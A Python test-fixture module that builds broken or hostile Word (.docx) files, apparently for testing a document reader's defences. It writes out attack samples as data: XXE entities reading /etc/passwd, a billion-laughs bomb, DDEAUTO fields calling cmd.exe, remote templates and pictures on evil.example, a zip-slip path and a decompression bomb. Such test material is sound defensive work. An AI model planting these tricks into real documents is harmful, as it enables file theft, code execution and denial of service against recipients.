"""Word files that are broken or would do harm, made from a good one."""

import io
import re
import zipfile
from collections.abc import Callable, Mapping

from docx_reading import REFERENCE, WordFile

Files = dict[str, bytes]

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LEADS = "word/_rels/document.xml.rels"
SETTINGS_LEADS = "word/_rels/settings.xml.rels"
NO_LEADS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
)
XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    + "]>"
)


def zipped(files: Mapping[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return packed.getvalue()


def good() -> Files:
    return dict(WordFile(REFERENCE).files)


def edited(name: str, old: str, new: str) -> Files:
    files = good()
    text, count = re.subn(old, lambda _: new, files[name].decode(), count=1)
    assert count, old
    return {**files, name: text.encode()}


def leading(kind: str, target: str, *, outside: bool = True, source: str = LEADS) -> Files:
    """A file with one more relationship."""
    files = good()
    mode = ' TargetMode="External"' if outside else ""
    lead = f'<Relationship Id="rId999" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/>'
    listed = files.get(source, NO_LEADS)
    return {**files, source: listed.replace(b"</Relationships>", lead.encode() + b"</Relationships>")}


def with_part(kind: str, name: str, type_: str, content: bytes) -> Files:
    files = leading(kind, f"/{name}", outside=False)
    override = f'<Override PartName="/{name}" ContentType="{type_}"/></Types>'.encode()
    types = files["[Content_Types].xml"].replace(b"</Types>", override)
    return {**files, "[Content_Types].xml": types, name: content}


def with_doctype(name: str, doctype: str, encoding: str = "utf-8") -> Files:
    files = good()
    text = files[name].decode().split("?>", 1)[1]
    return {**files, name: f'<?xml version="1.0" encoding="{encoding}"?>{doctype}{text}'.encode(encoding)}


def with_field(instruction: str) -> Files:
    """A file with a field; `|` parts the pieces that its instruction is typed in."""
    pieces = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in instruction.split("|"))
    begin, between, end = (
        f'<w:r><w:fldChar w:fldCharType="{mark}"/></w:r>' for mark in ("begin", "separate", "end")
    )
    return edited("word/document.xml", "<w:body>", f"<w:body><w:p>{begin}{pieces}{between}{end}</w:p>")


def encrypted_entries() -> bytes:
    """An archive whose entries say that they are encrypted."""
    content = bytearray(zipped(good()))
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + flags] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def many_parts() -> bytes:
    return zipped({**good(), **{f"word/media/{number}.txt": b"" for number in range(2500)}})


def nested(depth: int) -> Files:
    return edited("word/styles.xml", "</w:styles>", "<w:x>" * depth + "</w:x>" * depth + "</w:styles>")


def twice_named() -> bytes:
    files = good()
    return zipped({**files, "WORD/styles.xml": files["word/styles.xml"]})


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
TYPES = "[Content_Types].xml"
MAIN = "wordprocessingml.document.main"

HOSTILE: dict[str, tuple[str, Callable[[], bytes | Files]]] = {
    "an empty file": ("empty", lambda: b""),
    "a text": ("not-word", lambda: "这不是 Word 文件".encode()),
    "a PDF": ("not-word", lambda: b"%PDF-1.7\n"),
    "a .doc": ("old-word", lambda: OLE),
    "an encrypted .docx": ("password", lambda: OLE + "EncryptedPackage".encode("utf-16-le")),
    "an archive with a password": ("password", encrypted_entries),
    "half a file": ("damaged", lambda: REFERENCE[: len(REFERENCE) // 2]),
    "a flipped byte": ("damaged", lambda: REFERENCE[:900] + b"\xff\xff\xff" + REFERENCE[903:]),
    "an archive of something": ("damaged", lambda: zipped({"a.txt": b"x"})),
    "an OpenDocument text": ("another-kind", lambda: zipped({"mimetype": b"x", "content.xml": b"<a/>"})),
    "a workbook": (
        "another-kind",
        lambda: edited(TYPES, re.escape(MAIN), "spreadsheetml.sheet.main"),
    ),
    "a document of no known type": (
        "content-type",
        lambda: edited(TYPES, r"application/[\w.-]*wordprocessingml\.document\.main\+xml", "text/plain"),
    ),
    "styles that are called a theme": (
        "content-type",
        lambda: edited(TYPES, r"wordprocessingml\.styles\+xml", "theme+xml"),
    ),
    "a picture that is called a text": (
        "content-type",
        lambda: with_part("image", "word/media/a.png", "text/html", b"<html/>"),
    ),
    "a .docm": (
        "macros",
        lambda: edited(
            TYPES,
            r"application/[\w.-]*wordprocessingml\.document\.main\+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
    ),
    "macros without the name": ("macros", lambda: with_part("vbaProject", "word/vba.bin", "x/x", b"\0")),
    "a macro project by its type": (
        "macros",
        lambda: with_part("image", "word/a.bin", "application/vnd.ms-office.vbaProject", b"\0"),
    ),
    "an attached template": (
        "attached-template",
        lambda: leading("attachedTemplate", "https://evil.example/a.dotm", source=SETTINGS_LEADS),
    ),
    "a picture from elsewhere": ("outside", lambda: leading("image", "http://evil.example/a.png")),
    "a share on a server": ("outside", lambda: leading("hyperlink", r"\\evil\share\a.docx")),
    "a link that runs a script": ("outside", lambda: leading("hyperlink", "javascript:alert(1)")),
    "a link to a file": ("outside", lambda: leading("hyperlink", "file:///C:/a.exe")),
    "an old drawing from elsewhere": (
        "outside",
        lambda: edited(
            "word/document.xml",
            "<w:body>",
            '<w:body><w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" '
            'src="http://evil.example/a.png"/></w:pict></w:r></w:p>',
        ),
    ),
    "an embedded object": (
        "embedded",
        lambda: with_part("oleObject", "word/embeddings/a.bin", "x/x", b"\0"),
    ),
    "a control": ("embedded", lambda: with_part("control", "word/activeX/a.xml", "text/xml", b"<a/>")),
    "a chunk of HTML": ("embedded", lambda: with_part("aFChunk", "word/a.html", "text/html", b"<html/>")),
    "a chunk without a lead": (
        "embedded",
        lambda: edited("word/document.xml", "<w:body>", "<w:body><w:altChunk/>"),
    ),
    "DDE": ("field", lambda: with_field(r'DDEAUTO c:\\windows\\cmd.exe "/k calc"')),
    "DDE in pieces": ("field", lambda: with_field(r"DD|EAUTO c:\\cmd.exe")),
    "a field that fetches a picture": (
        "field",
        lambda: with_field(r'INCLUDEPICTURE "http://evil.example/a.png" \d'),
    ),
    "a field that fetches a text": ("field", lambda: with_field(r"INCLUDETEXT \\\\evil\\a.docx")),
    "a field that runs a macro": ("field", lambda: with_field("MACROBUTTON AutoOpen 点我")),
    "a simple field": (
        "field",
        lambda: edited(
            "word/document.xml", "<w:body>", '<w:body><w:p><w:fldSimple w:instr="DDE a b"/></w:p>'
        ),
    ),
    "a link in a field": ("outside", lambda: with_field(r'HYPERLINK "\\\\evil\\share" \o "x"')),
    "XXE": ("doctype", lambda: with_doctype("word/styles.xml", XXE)),
    "XXE in UTF-16": ("doctype", lambda: with_doctype("word/settings.xml", XXE, "utf-16")),
    "XXE in relationships": ("doctype", lambda: with_doctype(LEADS, XXE)),
    "XXE in content types": ("doctype", lambda: with_doctype(TYPES, XXE)),
    "a billion laughs": ("doctype", lambda: with_doctype("word/numbering.xml", LAUGHS)),
    "a strict document": (
        "strict",
        lambda: edited(
            "_rels/.rels",
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument",
            "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
        ),
    ),
    "a bomb": ("too-large", lambda: {**good(), "word/media/a.bmp": bytes(51 * 1024 * 1024)}),
    "thousands of parts": ("too-large", many_parts),
    "twenty thousand levels": ("too-large", lambda: nested(20_000)),
    "names that leave the package": ("damaged", lambda: {**good(), "../../etc/cron.d/a": b"x"}),
    "a part twice": ("damaged", twice_named),
    "a part that is not there": ("damaged", lambda: leading("header", "header9.xml", outside=False)),
    "XML cut off": ("damaged", lambda: edited("word/styles.xml", "</w:styles>", "")),
    "another root": ("damaged", lambda: {**good(), "word/styles.xml": b"<a/>"}),
}


def hostile(name: str) -> bytes:
    made = HOSTILE[name][1]()
    return made if isinstance(made, bytes) else zipped(made)
